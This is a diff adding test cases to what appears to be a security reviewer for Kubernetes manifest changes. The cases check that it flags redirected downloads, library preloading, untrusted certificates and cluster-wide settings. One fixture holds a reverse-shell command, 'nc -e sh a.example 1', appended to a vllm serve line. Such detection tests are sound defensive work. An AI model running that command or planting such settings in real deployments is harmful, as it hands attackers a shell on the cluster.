@@ -254,6 +254,16 @@ def test_what_a_first_environment_leads_elsewhere_is_told(
         ({}, {"env": [{"name": "HF_ENDPOINT", "value": "https://a.example"}]}, "`HF_ENDPOINT: https://a.example`, by which they fetch from elsewhere"),
         ({}, {"env": [{"name": "https_proxy", "value": "http://a.example"}]}, "`https_proxy: http://a.example`, by which they fetch from elsewhere"),
         ({}, {"env": [{"name": "LD_PRELOAD", "value": "/v/x.so"}]}, "`LD_PRELOAD`, by which they run what their image does not hold"),
+        ({}, {"env": [{"name": "BASH_ENV", "value": "/v/x.sh"}]}, "`BASH_ENV`, by which they run what their image does not hold"),
+        ({}, {"env": [{"name": "LD_LIBRARY_PATH", "value": "/models/lib:/usr/lib"}]}, "`LD_LIBRARY_PATH: /models/lib:/usr/lib`, by which they run what their image does not hold"),
+        ({}, {"env": [{"name": "LD_LIBRARY_PATH", "value": "/usr/local/nvidia/lib64:/opt/x:$(LD_LIBRARY_PATH)"}]}, ""),
+        ({}, {"env": [{"name": "AWS_ENDPOINT_URL", "value": "https://a.example"}]}, "`AWS_ENDPOINT_URL: https://a.example`, by which they fetch from elsewhere"),
+        ({}, {"env": [{"name": "VLLM_USE_MODELSCOPE", "value": "True"}]}, "`VLLM_USE_MODELSCOPE: True`, by which they fetch from elsewhere"),
+        ({}, {"env": [{"name": "VLLM_USE_MODELSCOPE", "value": "false"}]}, ""),
+        ({}, {"env": [{"name": "SSL_CERT_FILE", "value": "/v/ca.pem"}]}, "`SSL_CERT_FILE: /v/ca.pem`, by which they believe other certificates"),
+        ({}, {"env": [{"name": "CURL_CA_BUNDLE", "value": ""}]}, "`CURL_CA_BUNDLE: `, by which they believe other certificates"),
+        ({"dnsConfig": {"searches": ["a.example"]}}, {}, "names of `a.example` for those without a dot (`dnsConfig`)"),
+        ({}, {"command": ["sh", "-c", "vllm serve m & nc -e sh a.example 1"]}, "what `a.example` answers to their commands"),
         ({}, {"args": ["serve", "m", "--middleware", "a.b"]}, "`--middleware`, by which they run or show what callers or files bring"),
         ({}, {"args": ["serve", "m", "--allowed-local-media-path=/"]}, "`--allowed-local-media-path`, by which they run or show what callers or files bring"),
         ({}, {"env": [{"name": "LD_PRELOAD", "valueFrom": {"secretKeyRef": {}}}]}, "`LD_PRELOAD`, by which they run what their image does not hold"),
@@ -451,6 +461,80 @@ def test_what_stands_between_callers_and_pods(
 ) -> None:
     told = _told(review((before, after), stays=[deployment()]))
     assert [message.startswith(said) for _, message in told] == ([True] if said else [])
+
+
+_SHARED = (
+    (_item("CSIDriver", "storage.k8s.io/v1", spec={"tokenRequests": [{"audience": "vault"}]}), "the driver gets a token for `vault`"),
+    (_item("CSIDriver", "storage.k8s.io/v1", spec={"attachRequired": False}), ""),
+    (
+        _item("StorageClass", "storage.k8s.io/v1", {"annotations": {"storageclass.kubernetes.io/is-default-class": "true"}}, provisioner="p"),
+        "`p` makes the volumes of every claim that names no class",
+    ),
+    (_item("StorageClass", "storage.k8s.io/v1", provisioner="p"), ""),
+    (
+        _item("IngressClass", "networking.k8s.io/v1", {"annotations": {"ingressclass.kubernetes.io/is-default-class": "true"}}, spec={"controller": "c"}),
+        "`c` serves every Ingress that names no class",
+    ),
+    (_item("IngressClass", "networking.k8s.io/v1", spec={"controller": "c"}), ""),
+    (_item("RuntimeClass", "node.k8s.io/v1", handler="runc"), "pods of every namespace that name this class are run by `runc`"),
+    (_item("Node", "v1", spec={"unschedulable": True}), "it says which pods of the whole cluster run on a node"),
+    (_item("ClusterIssuer", "cert-manager.io/v1", spec={}), "it issues certificates for every namespace"),
+    (_item("Certificate", "cert-manager.io/v1", spec={"isCA": True}), "it asks for a certificate that signs others"),
+    (_item("Certificate", "cert-manager.io/v1", spec={"secretName": "tls", "dnsNames": ["a.example"]}), ""),
+    (_item("ClusterTrustBundle", "certificates.k8s.io/v1beta1", spec={}), "pods of every namespace that mount it believe"),
+    (_item("Lease", "coordination.k8s.io/v1", {"namespace": "kube-system"}, spec={"holderIdentity": "x"}), "it stands in namespace `kube-system`"),
+    (_item("Lease", "coordination.k8s.io/v1", {"namespace": "llm"}, spec={"holderIdentity": "x"}), ""),
+    (
+        _item("SealedSecret", "bitnami.com/v1alpha1", {"annotations": {"sealedsecrets.bitnami.com/cluster-wide": "true"}}, spec={}),
+        "who may make objects in any namespace may have it decrypted there",
+    ),
+    (_item("SealedSecret", "bitnami.com/v1alpha1", spec={}), ""),
+    (_item("CiliumClusterwideNetworkPolicy", "cilium.io/v2", spec={}), "it decides which calls pass for pods of every namespace"),
+    (_item("CiliumNetworkPolicy", "cilium.io/v2", spec={}), ""),
+    (_item("PeerAuthentication", "security.istio.io/v1", spec={"mtls": {"mode": "DISABLE"}}), "pods of the mesh answer callers"),
+    (_item("PeerAuthentication", "security.istio.io/v1", spec={"mtls": {"mode": "STRICT"}}), ""),
+    (_item("RequestAuthentication", "security.istio.io/v1", spec={"jwtRules": [{"issuer": "i"}]}), "the mesh believes what tokens of `i` say"),
+)  # fmt: skip
+
+
+@pytest.mark.parametrize(("item", "said"), _SHARED)
+def test_what_an_object_decides_for_others(item: Object, said: str, review: Any, deployment: Build) -> None:
+    told = _told(review((None, item), stays=[deployment()]))
+    assert [message.startswith(said) for _, message in told] == ([True] if said else [])
+    assert not _told(
+        review((item, item | {"metadata": item["metadata"] | {"labels": {"a": "b"}}}), stays=[deployment()])
+    )
+
+
+@pytest.mark.parametrize(
+    ("spec", "said"),
+    [
+        ({"hosts": ["*"]}, ["calls of the mesh to `*` go where it says"]),
+        ({"hosts": ["api.pay.svc.cluster.local"]}, ["calls of the mesh to `api.pay.svc.cluster.local` go where it says"]),
+        (
+            {"hosts": ["m"], "gateways": ["mesh"], "http": [{"route": [{"destination": {"host": "a.example"}}]}]},
+            ["calls of the mesh to `m` go to `a.example`"],
+        ),
+        ({"hosts": ["m"], "http": [{"route": [{"destination": {"host": "m-canary"}}]}]}, []),
+        ({"hosts": ["m.llm"], "http": [{"route": [{"destination": {"host": "m.llm.svc.cluster.local"}}]}]}, []),
+        ({"hosts": ["a.example"], "gateways": ["istio-system/gw"], "http": [{"route": [{"destination": {"host": "m"}}]}]}, []),
+        ({"hosts": 5, "http": [5, {"route": [5, {"destination": []}]}]}, []),
+    ],
+)  # fmt: skip
+def test_where_a_mesh_sends_calls_of_others(spec: Object, said: list[str], review: Any, deployment: Build) -> None:
+    route = _item("VirtualService", "networking.istio.io/v1", {"namespace": "llm"}, spec=spec)
+    assert [message for _, message in _told(review((None, route), stays=[deployment()]))] == said
+
+
+def test_a_namespace_of_others_that_is_told_to_let_in_all_pods(review: Any, deployment: Build) -> None:
+    space, running = "llm", deployment()
+    running["metadata"]["namespace"] = space
+    label = {"pod-security.kubernetes.io/enforce": "privileged"}
+    written = _item("Namespace", "v1", {"name": space, "labels": label})
+    told = _told(review((None, written), stays=[running]))
+    assert [message.startswith("the namespace is told to let in every pod") for _, message in told] == [True]
+    assert not _told(review((None, _item("Namespace", "v1", {"name": space})), stays=[running]))
+    assert not _told(review((None, _item("Namespace", "v1", {"name": "another", "labels": label})), stays=[running]))
 
 
 def _policy(**spec: Any) -> Object:
@@ -754,6 +838,31 @@ def test_a_role_that_is_added_to_others_is_told(review: Any) -> None:
         "metadata": plain["metadata"] | {"labels": {"rbac.authorization.k8s.io/aggregate-to-view": "true"}}
     }
     assert len(_told(review((plain, added)))) == 1
+
+
+@pytest.mark.parametrize(
+    ("name", "value", "said"),
+    [
+        ("iam.amazonaws.com/role", "admin", "the cloud's role `admin`"),
+        ("vault.hashicorp.com/role", "admin", "what a vault shows the role `admin`"),
+        ("k8s.v1.cni.cncf.io/networks", "host-net", "the network `host-net`"),
+        ("sidecar.istio.io/inject", "false", "a place outside the mesh"),
+        ("sidecar.istio.io/inject", "true", ""),
+        ("vault.hashicorp.com/agent-inject", "true", ""),
+        ("prometheus.io/scrape", "true", ""),
+    ],
+)
+@pytest.mark.parametrize("field", ["annotations", "labels"])
+def test_what_labels_and_annotations_of_pods_ask_for(
+    field: str, name: str, value: str, said: str, review: Any, deployment: Build
+) -> None:
+    asking = deepcopy(deployment())
+    metadata = asking["spec"]["template"].setdefault("metadata", {})
+    metadata[field] = {**metadata.get(field, {}), name: value}
+    told = _told(review((deployment(), asking)))
+    assert [message.startswith(f"its pods get {said} (") or said in message for _, message in told] == [True] * bool(
+        said
+    )
 
 
 @pytest.mark.parametrize(
